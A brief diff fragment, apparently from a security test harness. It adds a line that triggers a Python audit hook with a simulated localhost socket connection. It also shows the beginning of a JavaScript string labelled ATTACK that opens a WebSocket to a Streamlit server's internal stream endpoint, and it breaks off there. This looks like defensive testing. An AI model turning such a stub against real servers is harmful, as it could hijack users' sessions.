@@ -34,6 +34,7 @@ def note(event, arguments):
             print(event, place, file=file)
 
 sys.addaudithook(note)
+note("socket.connect", (None, ("127.0.0.1", "the hook is on")))
 """
 ATTACK = """async address => {
   const socket = new WebSocket(address.replace("http", "ws") + "/_stcore/stream", ["streamlit"])
